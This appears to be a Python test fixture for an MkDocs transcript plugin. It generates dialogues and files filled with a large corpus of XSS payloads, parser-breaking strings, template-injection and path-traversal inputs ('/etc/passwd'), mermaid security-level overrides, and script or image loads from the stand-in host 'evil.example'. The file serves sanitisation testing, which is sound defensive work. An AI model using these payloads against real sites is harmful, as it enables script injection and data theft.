"""Hostile texts of our own, and dialogues that hold one of them in every place where text goes.

Whatever of them runs calls ``ran``; whatever of them asks another host asks ``evil.example``.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import date
from typing import Final

from mkdocs_dialogues.model import (
    Aside,
    Attachment,
    Dialogue,
    Location,
    Metadata,
    Note,
    Part,
    Participant,
    Reasoning,
    Text,
    ToolCall,
    ToolResult,
    Turn,
    Unknown,
)
from mkdocs_dialogues.writers.markdown import as_markdown

__all__ = ["PAYLOADS", "dialogue_of", "hostile_files"]

_RUN: Final = "ran(1)"

# Elements that run something, as they are typed.
_ELEMENTS: Final = f"""\
<script>{_RUN}</script>
<SCRIPT>{_RUN}</SCRIPT >
<script src=//evil.example/x.js></script>
<script src=data:text/javascript,{_RUN}>
<script type=module>{_RUN}
<script/x>{_RUN}</script/x>
<<script>{_RUN}//<</script>
<scr<script>ipt>{_RUN}</scr</script>ipt>
<img src=x onerror={_RUN}>
<img/src=x/onerror={_RUN}>
<img src=x onerror="{_RUN}"//
<IMG SRC=x OnErRoR={_RUN}>
<img srcset=//evil.example/s.png>
<image src=x onerror={_RUN}>
<svg onload={_RUN}>
<svg><script>{_RUN}</script></svg>
<svg><script xlink:href=data:,{_RUN} />
<svg><animate onbegin={_RUN} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>{_RUN}</script></svg>#x">
<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>
<svg><set attributeName=onmouseover to={_RUN}>
<math><maction actiontype=statusline#x xlink:href=javascript:{_RUN}>x</maction></math>
<math href="javascript:{_RUN}">x</math>
<iframe src="javascript:{_RUN}"></iframe>
<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>
<iframe src=//evil.example/></iframe>
<object data="javascript:{_RUN}"></object>
<object data=//evil.example/x></object>
<embed src="javascript:{_RUN}">
<video src=x onerror={_RUN}></video>
<video><source onerror={_RUN}></video>
<video poster=//evil.example/p.png></video>
<audio src=x onerror={_RUN}>
<audio src=//evil.example/a.mp3 autoplay>
<details open ontoggle={_RUN}>x</details>
<input autofocus onfocus={_RUN}>
<input type=image src=x onerror={_RUN}>
<select autofocus onfocus={_RUN}>
<textarea autofocus onfocus={_RUN}>
<button popovertarget=p onclick={_RUN}>x</button><div popover id=p onbeforetoggle={_RUN}>
<div style=animation-name:x onanimationstart={_RUN}>x</div>
<div onpointerover={_RUN}>x</div>
<body onload={_RUN}>
<body onpageshow={_RUN} onhashchange={_RUN}>
<marquee onstart={_RUN}>x</marquee>
<form action="javascript:{_RUN}"><button>x</button></form>
<form><button formaction="javascript:{_RUN}">x</button></form>
<isindex action="javascript:{_RUN}" type=submit>
<a href="javascript:{_RUN}">x</a>
<a href=" &#14; javascript:{_RUN}">x</a>
<a ping=//evil.example/ href=#>x</a>
<area href="javascript:{_RUN}" shape=default>
<base href="//evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<meta http-equiv=refresh content="0;url=javascript:{_RUN}">
<meta http-equiv=refresh content="0;url=//evil.example/">
<style>@import "//evil.example/x.css";</style>
<style>*{{background:url(//evil.example/b.png)}}</style>
<style onload={_RUN}></style>
<p style="background:url(//evil.example/p.png)">x
<template shadowrootmode=open><script>{_RUN}</script></template>
<x contenteditable onfocus={_RUN} autofocus tabindex=1>
<dialog open oncancel={_RUN} onclose={_RUN}>x</dialog>
<keygen autofocus onfocus={_RUN}>
<portal src="javascript:{_RUN}">
<applet code=x onerror={_RUN}>
<frameset onload={_RUN}>
<table background=//evil.example/t.png>""".splitlines()

# What closes the place that it stands in, and opens one of its own.
_BREAKERS: Final = f"""\
"><script>{_RUN}</script>
'><script>{_RUN}</script>
`><script>{_RUN}</script>
" onmouseover="{_RUN}
' onmouseover='{_RUN}
x onmouseover={_RUN}
" autofocus onfocus="{_RUN}" x="
"style="animation-name:x"onanimationstart="{_RUN}
</title><script>{_RUN}</script>
`</title><script>{_RUN}</script>`
</textarea><script>{_RUN}</script>
</style><script>{_RUN}</script>
</noscript><script>{_RUN}</script>
</template><script>{_RUN}</script>
</xmp></plaintext></noframes></noembed><script>{_RUN}</script>
</script><script>{_RUN}</script>
"}}</script><script>{_RUN}</script>
--><script>{_RUN}</script><!--
--!><script>{_RUN}</script>
]]><script>{_RUN}</script>
?><script>{_RUN}</script>
</a></p></div></section></article><script>{_RUN}</script>
</code></pre><script>{_RUN}</script>
</summary></details><script>{_RUN}</script>
</annotation></semantics></math><script>{_RUN}</script>
<!--<script>{_RUN}
<!--
<![CDATA[<script>{_RUN}</script>]]>
<?xml-stylesheet href="javascript:{_RUN}"?>
<textarea>
<title>
<plaintext>
<xmp>
<select><template><script>{_RUN}</script>
<noscript><p title="</noscript><img src=x onerror={_RUN}>">
<svg></p><style><a id="</style><img src=x onerror={_RUN}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>
<math><mi><a title="</mi></math><img src=x onerror={_RUN}>">
<svg><title><script>{_RUN}</script></title></svg>
&lt;script&gt;{_RUN}&lt;/script&gt;
&lt;img src=x onerror={_RUN}&gt;
&amp;lt;img src=x onerror={_RUN}&amp;gt;
&amp;amp;lt;img src=x onerror={_RUN}&amp;amp;gt;
&#60;img src=x onerror={_RUN}&#62;
&#x3C;img src=x onerror={_RUN}&#x3E;
&lt&#x2Fscript&gt
\\u003cimg src=x onerror={_RUN}\\u003e
\\x3cimg src=x onerror={_RUN}\\x3e
%3Cimg%20src=x%20onerror={_RUN}%3E
\uff1cimg src=x onerror={_RUN}\uff1e
<img\u00a0src=x onerror={_RUN}>
<img\x0csrc=x\x0conerror={_RUN}>
<scr\u200bipt>{_RUN}</script>
\u202e<script>{_RUN}</script>\u2066
\u2028<script>{_RUN}</script>\u2029
+ADw-script+AD4-{_RUN}+ADw-/script+AD4-
';{_RUN};'
";{_RUN};"
\\";{_RUN};//
${{{_RUN}}}
`${{{_RUN}}}`
{{{{constructor.constructor('{_RUN}')()}}}}
{{{{ 7*7 }}}}{{% include "mkdocs.yml" %}}
{{{{ config.__class__.__init__.__globals__ }}}}
{{% raw %}}<script>{_RUN}</script>{{% endraw %}}
<%= {_RUN} %><?php {_RUN} ?>
#{{{_RUN}}}
--8<-- "mkdocs.yml"
{{: onclick={_RUN} }}
[x]{{onclick={_RUN}}}
:::{{onclick={_RUN}}}
expression({_RUN})
x;background:url(//evil.example/c.png)
\\3c script\\3e {_RUN}
__config
__search
__drawer
__palette
__skip
__toc
__proto__
constructor
document.body
header
content
search/search_index.json
../../../../etc/passwd
..\\..\\windows\\win.ini
file:///etc/passwd
con
index
%00
%
a/b\\c:d*e?f"g<h>i|j
-rf
.hidden
~
\u202egnp.exe
\u0130\u0131\ufb03
e\u0301\u0301\u0301\u0301\u0301
\U0001f468\u200d\U0001f469\u200d\U0001f467""".split("\n")

# Where a link or a picture may be asked to lead.
_TARGETS: Final = f"""\
javascript:{_RUN}
JaVaScRiPt:{_RUN}
javascript&colon;{_RUN}
javascript&#58;{_RUN}
&#106;avascript:{_RUN}
java&Tab;script:{_RUN}
java&#10;script:{_RUN}
java\tscript:{_RUN}
&#1;javascript:{_RUN}
\x01javascript:{_RUN}
\u00a0javascript:{_RUN}
\ufeffjavascript:{_RUN}
javascript%3A{_RUN}
javascript://evil.example/%0a{_RUN}
javascript:/*--></title></style></textarea></script><svg onload={_RUN}>*/
view-source:javascript:{_RUN}
vbscript:{_RUN}
data:text/html,<script>{_RUN}</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>
blob:http://evil.example/1
feed:javascript:{_RUN}
//evil.example/n.png
\\\\evil.example\\n.png
/\\evil.example/n.png
http://evil.example/n.png
https://evil.example/n.png"onerror="{_RUN}
https:evil.example/n.png
http://evil.example\\@127.0.0.1/n.png
http://[evil/n.png
hostile.svg
#__config
#"><script>{_RUN}</script>
?"><script>{_RUN}</script>
mailto:a@b.example?body=<script>{_RUN}</script>
tel:"onclick="{_RUN}""".split("\n")

# Diagrams that would run something, or fetch it, if mermaid let them.
_DIAGRAMS: Final = tuple(
    diagram.replace("RUN", _RUN)
    for diagram in (
        'graph TD\nA-->B\nclick A "javascript:RUN"',
        'graph TD\nA-->B\nclick A call ran(1)\nclick B ran "x"',
        'graph TD\nA["<img src=x onerror=RUN>"]-->B["<script>RUN</script>"]',
        'graph TD\nA["&lt;img src=x onerror=RUN&gt;"]-->B["`**<svg onload=RUN>**`"]',
        '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<svg onload=RUN>"]',
        '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\nA["<img src=x onerror=RUN>"]',
        '%%{init: {"themeCSS": "@import url(//evil.example/m.css); * {background: url(//evil.example/m.png)}"}}%%\npie',
        '%%{init: {"themeVariables": {"primaryColor": "red; background: url(//evil.example/v.png)"}}}%%\ngraph TD\nA',
        '%%{init: {"fontFamily": "x;} * {background: url(//evil.example/f.png)"}}%%\ngraph TD\nA-->B',
        "graph TD\nA-->B\nstyle A fill:url(//evil.example/s.png),background:url(//evil.example/t.png)",
        "graph TD\nA:::x-->B\nclassDef x fill:#fff,background-image:url('//evil.example/c.png')",
        'graph TD\nA@{ img: "//evil.example/i.png", label: "x", pos: "t", w: 60, h: 60 }',
        'graph TD\nA@{ img: "javascript:RUN", label: "<img src=x onerror=RUN>" }',
        'graph TD\nA@{ icon: "evil:icon", label: "x" }',
        'sequenceDiagram\nparticipant A\nlink A: x @ javascript:RUN\nA->>A: <img src=x onerror=RUN>',
        'sequenceDiagram\nlinks A: {"x": "javascript:RUN"}\nA->>B: </text><script>RUN</script>',
        'classDiagram\nclass A\nlink A "javascript:RUN" "x"\ncallback A "ran" "x"',
        'gantt\nsection s\nx :a, 2026-01-01, 1d\nclick a href "javascript:RUN"',
        'pie title <img src=x onerror=RUN>\n"<script>RUN</script>" : 1',
        'gitGraph\ncommit id: "<img src=x onerror=RUN>"',
        'mindmap\n  root((<img src=x onerror=RUN>))\n    ::icon(x" onload="RUN)',
        'journey\ntitle <svg onload=RUN>\nsection <script>RUN</script>\nx: 5: <img src=x onerror=RUN>',
        'graph TD\nA["$$\\\\href{javascript:RUN}{x}$$"]',
        "__proto__\n%%{init: {\"__proto__\": {\"securityLevel\": \"loose\"}}}%%",
    )
)  # fmt: skip

PAYLOADS: Final[tuple[str, ...]] = (*_ELEMENTS, *_BREAKERS, *_TARGETS, *_DIAGRAMS)

_HERE: Final = Location("content/dialogues/x.md")


def _shapes(payload: str) -> Iterator[str]:
    """A payload in every place of a turn's Markdown."""
    line = payload.replace("\n", " ")
    cell = line.replace("|", "\\|")
    yield payload
    yield f"# {line}\n\nSee [it](#{line}) and [config](#__config).\n\n## `{line}`"
    yield f"[x]({line}) [x](<{line}>) <{line}> ![x]({line}) ![{line}](kelly.svg '{line}') [{line}](http://a.example)"
    yield f"[x][r] ![x][r]\n\n[r]: {line} '{line}'"
    yield f'[x][q]\n\n[q]: <{line}> "{line}"'
    yield f"`{line}` ``{line}`` **{line}** ~~{line}~~ \\{line}"
    yield f"```{line}\nx\n```\n\n~~~ html {line}\n{payload}\n~~~\n\n``````html\n{payload}\n``````"
    yield f"$x^2 + \\text{{{line}}}$ and $${line}$$ and \\({line}\\)"
    yield f"```math\n\\text{{{line}}} \\label{{{line}}}\n```"
    yield f"| {cell} | b |\n|---|---|\n| {cell} | `{cell}` |"
    yield f"a[^{line}] b[^1]\n\n[^{line}]: x\n[^1]: {line}"
    yield f"> [!NOTE] {line}\n> {line}\n\n- [ ] {line}\n1. {line}\n   {line}"
    yield f"<thinking>{payload}</thinking>\n\n<!-- {payload} -->\n\n<pre>\n{payload}\n</pre>"


def dialogue_of(payload: str, number: int) -> Dialogue:
    """A dialogue that holds one payload wherever text can stand."""
    line = " ".join(payload.split()) or "x"
    people = (
        Participant(line, line, "user", kind="human", url="https://evil.example/"),
        Participant(f"{line} 2", f"{line} 2", "assistant", f"{line}/{line}", "model"),
    )
    parts: tuple[Part, ...] = (
        Text(payload),
        Reasoning(payload),
        ToolCall(payload, payload, id=payload, language="html"),
        ToolCall(payload, payload, language=payload),
        ToolResult(payload, name=payload, id=payload, is_error=True),
        Attachment(payload, payload, "image/png"),
        Attachment(payload, payload, payload),
        Attachment(f"{payload}.svg", "hostile.svg", "image/svg+xml", payload),
        Attachment(payload, f"https://evil.example/{payload}.png", "image/png"),
        Aside(payload, payload),
        Aside("system prompt", f"{payload}\n\n{payload}"),
        Unknown(payload, payload),
    )
    turns = tuple(
        Turn(people[index % 2].id, (Text(shape),), _HERE, id=f"{line} {index}", heading=line if index == 1 else None)
        for index, shape in enumerate(_shapes(payload))
    )
    return Dialogue(
        title=line,
        participants=people,
        turns=(Turn(people[0].id, parts, _HERE, id=line), *turns),
        source=_HERE,
        metadata=Metadata(
            date=date(2026, 1, 1 + number % 28),
            summary=line,
            themes=(line,),
            series=line,
            license=line,
            notes=(Note(payload), Note(payload, "1")),
            source_url="https://evil.example/" + re.sub(r"\s", "", line),
        ),
        preface=(Text(payload),),
        afterword=(Text(payload),),
    )


def _file_name(payload: str, number: int) -> str:
    """A payload as far as a file's name can hold it."""
    name = re.sub(r"[/\x00-\x1f]", "_", payload)[:60]
    return f"{name}{number}.md"


def hostile_files() -> dict[str, bytes]:
    """A docs folder: a transcript for each payload, one of JSON with what UTF-8 cannot hold, and a hostile SVG."""
    files = {}
    for number, payload in enumerate(PAYLOADS):
        text = as_markdown(dialogue_of(payload, number))
        files[f"dialogues/{_file_name(payload, number)}"] = text.encode("utf-8", "replace")
    half = "\ud83d<script>ran(1)</script>\x00\ud800"
    messages = [
        {"role": "user", "name": half, "content": half},
        {
            "role": "assistant",
            "content": half,
            "reasoning_content": half,
            "tool_calls": [{"id": half, "type": "function", "function": {"name": half, "arguments": half}}],
        },
        {"role": "tool", "tool_call_id": half, "name": half, "content": half},
    ]
    files["dialogues/half.json"] = json.dumps({"messages": messages, "model": half, "title": half}).encode()
    for number in range(0, len(PAYLOADS), 60):  # drawing takes its time: many on a page
        labels = [payload.replace("\n", " ") for payload in PAYLOADS[number : number + 60]]
        shown = "\n\n".join(f'```mermaid\ngraph TD\nA["{label}"]-->|"{label}"|B({label})\n```' for label in labels)
        files[f"dialogues/labels-{number}.md"] = f"**USER:** Draw.\n\n**ASSISTANT:** Here:\n\n{shown}\n".encode()
    diagrams = "\n\n".join(f"```mermaid\n{diagram}\n```" for diagram in _DIAGRAMS)
    files["dialogues/diagrams.md"] = f"**USER:** Draw.\n\n**ASSISTANT:** Here:\n\n{diagrams}\n".encode()
    files["dialogues/hostile.svg"] = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="ran(1)"><script>parent.ran(1)</script>'
        b'<image href="http://evil.example/i.png"/></svg>'
    )
    files["index.md"] = b"# Home\n\nNothing to see.\n"
    return files
